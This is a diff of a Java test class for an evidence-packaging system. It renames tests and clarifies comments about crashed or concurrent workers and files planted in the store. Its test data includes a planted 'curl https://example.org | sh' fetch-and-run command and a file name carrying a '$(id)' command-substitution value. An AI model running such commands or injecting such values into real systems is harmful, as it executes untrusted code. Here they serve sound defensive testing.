@@ -52,7 +52,7 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** Workers that die, overtake each other or sleep at the worst of moments: the package is whole all the same. */
+/** Workers that crash, run concurrently or are suspended at the worst moments; the package stays intact. */
 @Timeout(60)
 class CollisionTest {
     private static final Artifact TASK = PagedSource.artifact("test.task", Volatility.V2);
@@ -78,7 +78,7 @@ class CollisionTest {
     }
 
     @Test
-    void anotherAlertFinishesTheOpeningThatADeadWorkerBegan() throws Exception {
+    void completesOpeningOfCrashedWorker() throws Exception {
         EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(PackageLayout.TRIGGER), () -> {
             throw new StoreException("killed here");
         });
@@ -91,7 +91,7 @@ class CollisionTest {
     }
 
     @Test
-    void ofTwoAlertsThatOvertakeEachOtherTheOneThatOpenedIsInside() throws Exception {
+    void containsOpeningAlertWhenAlertsAreConcurrent() throws Exception {
         Acquisition second = worker("b", store);
         EvidenceStore overtaken = new InterceptedStore(
                 store,
@@ -104,7 +104,7 @@ class CollisionTest {
     }
 
     @Test
-    void nobodyCollectsIntoAPackageThatWasSealedMeanwhile() throws Exception {
+    void collectsNothingWhenPackageWasSealedMeanwhile() throws Exception {
         Acquisition other = worker("b", store);
         OpenPackage opened = other.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         EvidenceStore overtaken = new InterceptedStore(store, key -> key.startsWith("work/"), () -> other.seal(opened));
@@ -117,7 +117,7 @@ class CollisionTest {
     }
 
     @Test
-    void aWorkerThatSleptWhileItSealedWritesNothingMore() throws Exception {
+    void writesNothingAfterSuspensionDuringSealing() throws Exception {
         Acquisition[] other = new Acquisition[1];
         EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(PackageLayout.INDEX), () -> {
             clock.turn(Duration.ofMinutes(5));
@@ -133,9 +133,12 @@ class CollisionTest {
         assertIntact(opened.open().packageId());
     }
 
-    /** A run that seals at its deadline, what is not finished included, and fails there: the next one collects the rest. */
+    /**
+     * A run that seals at its deadline, including unfinished items, and fails while sealing; the next run collects the
+     * rest.
+     */
     @Test
-    void whatIsCollectedAfterASealingThatFailedIsInTheIndex() throws Exception {
+    void indexesItemsCollectedAfterFailedSealing() throws Exception {
         EvidenceStore failing = new InterceptedStore(store, key -> key.endsWith(PackageLayout.OUTCOMES), () -> {
             throw new StoreException("refused once");
         });
@@ -154,7 +157,7 @@ class CollisionTest {
     }
 
     @Test
-    void aFileThatWasPlantedIsNotSealed() throws Exception {
+    void doesNotSealPlantedFile() throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
@@ -166,9 +169,9 @@ class CollisionTest {
                 .doesNotExist();
     }
 
-    /** Nobody else writes under the name of an attempt: what stands there in a body's place is not it. */
+    /** No other worker uses the name of this attempt, so an object at the path of its body is not its body. */
     @Test
-    void anotherBodyInThePlaceOfOneIsNeitherOverwrittenNorTakenForIt() throws Exception {
+    void reportsFailedItemWhenBodyPathIsOccupied() throws Exception {
         String[] place = new String[1];
         EvidenceStore overtaken = new InterceptedStore(
                 store,
@@ -192,7 +195,7 @@ class CollisionTest {
         assertThat(folder.resolve("evidence").resolve(place[0])).hasContent("planted");
     }
 
-    /** Whoever may write to the store can stop a collection, and is told of with what to do. */
+    /** An attacker who can write to the store can stop a collection; the error message contains the remedy. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -202,7 +205,7 @@ class CollisionTest {
                 "{\"event\":\"item.planned\",\"item\":\"test.task\",\"planned\":{\"item\":\"\"}}",
                 "{\"event\":\"segment.open\",\"item\":\"test.never-planned\",\"attempt\":\"0badc0de\"}"
             })
-    void aLogThatWasPlantedIsToldAndTheRestCollectedOnceItIsGone(String line) throws Exception {
+    void collectsAfterPlantedLogSegmentIsDeleted(String line) throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         String key = opened.open().packageId().prefix() + PackageLayout.segment("test.task", "0badc0de", 1);
@@ -218,9 +221,9 @@ class CollisionTest {
         assertIntact(opened.open().packageId());
     }
 
-    /** In a bucket anything may be a name. */
+    /** In a bucket, an object key can contain any character. */
     @Test
-    void aNameThatIsNoneOfOursIsToldAndTheRestSealedOnceItIsGone() throws Exception {
+    void sealsAfterFileWithInvalidNameIsDeleted() throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
@@ -230,7 +233,7 @@ class CollisionTest {
 
         assertThatThrownBy(() -> worker.seal(opened))
                 .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(PackageLayout.RAW + "00 ?$(id)' has a name that no file of a package has");
+                .hasMessageContaining(PackageLayout.RAW + "00 ?$(id)' is not a valid path");
 
         Files.delete(planted);
         worker.seal(opened);
@@ -238,7 +241,7 @@ class CollisionTest {
     }
 
     @Test
-    void reportsAnObjectInThePlaceOfALogSegment() throws Exception {
+    void reportsObjectAtPathOfLogSegment() throws Exception {
         AtomicReference<@Nullable String> segment = new AtomicReference<>();
         EvidenceStore attacked = new InterceptedStore(
                 store,
@@ -252,10 +255,10 @@ class CollisionTest {
                         .hasValue(Objects.requireNonNull(segment.get())));
     }
 
-    /** The log is what collecting goes on from; what lies beside it is in the way of the seal alone. */
+    /** Collecting resumes from the log; other files in the folder of the log only prevent sealing. */
     @ParameterizedTest
     @ValueSource(strings = {"notes.txt", "test.task.jsonl", "test.task-00000000-0001.jsonl.bak"})
-    void aFileAmongTheLogThatIsNoneOfItDoesNotStopCollecting(String name) throws Exception {
+    void collectsDespiteForeignFileInLogFolder(String name) throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         Path planted = folder.resolve("evidence")
@@ -266,27 +269,27 @@ class CollisionTest {
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         assertThatThrownBy(() -> worker.seal(opened))
                 .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(name + "' has a name that no file of a package has");
+                .hasMessageContaining(name + "' is not a valid path");
 
         Files.delete(planted);
         assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
         assertIntact(opened.open().packageId());
     }
 
-    /** Where nobody can take it away, as a lock keeps it. */
+    /** No user can delete the file, because a lock protects it. */
     @Test
-    void whatCannotBeSealedForAFileThatIsNoneOfOursIsSealedInACopyWithoutIt() throws Exception {
+    void sealsCopyWhenForeignFileIsLocked() throws Exception {
         Lock locked = new Lock(Retention.Mode.COMPLIANCE, Optional.of(Instant.parse("2099-01-01T00:00:00Z")), false);
         Acquisition worker = worker("a", new FakeVersionedStore(store, locked));
         OpenPackage opened = worker.open(AcquisitionRequests.byHand("e-1", Retention.parse("compliance:30")), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         PackageId id = opened.open().packageId();
-        Path standing = folder.resolve("evidence").resolve(id.prefix());
-        Files.writeString(standing.resolve("data/notes.txt"), "planted");
+        Path stored = folder.resolve("evidence").resolve(id.prefix());
+        Files.writeString(stored.resolve("data/notes.txt"), "planted");
         assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("--store file:DIR");
 
         String day = id.prefix().replace(id.value() + "/", "");
-        Path copy = SealedPackageMaker.copy(standing, folder.resolve("copy").resolve(day));
+        Path copy = SealedPackageMaker.copy(stored, folder.resolve("copy").resolve(day));
         Files.delete(copy.resolve("data/notes.txt"));
         DirectoryEvidenceStore other = DirectoryEvidenceStore.open(folder.resolve("copy"));
         Acquisition there = worker("b", other);
@@ -295,10 +298,10 @@ class CollisionTest {
         IndependentVerifiers.accept(other, id, signer.publicKey());
     }
 
-    /** What a file browser leaves where it looked, or a name that any file may have. */
+    /** A file that a file browser creates, and other plausible file names. */
     @ParameterizedTest
     @ValueSource(strings = {"data/.DS_Store", "data/notes.txt", "data/trigger/event2.json", "data/raw/loot.bin"})
-    void aFileThatIsNoneOfOursIsToldAndTheRestSealedOnceItIsGone(String path) throws Exception {
+    void sealsAfterForeignFileIsDeleted(String path) throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
@@ -308,7 +311,7 @@ class CollisionTest {
 
         assertThatThrownBy(() -> worker.seal(opened))
                 .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(path + "' has a name that no file of a package has")
+                .hasMessageContaining(path + "' is not a valid path")
                 .hasMessageContaining("with every version");
 
         Files.delete(planted);
@@ -317,7 +320,7 @@ class CollisionTest {
     }
 
     @Test
-    void aClaimThatIsNoneHoldsNobodyUp() throws Exception {
+    void ignoresInvalidClaim() throws Exception {
         Acquisition worker = worker("a", store);
         OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         PackageId id = opened.open().packageId();
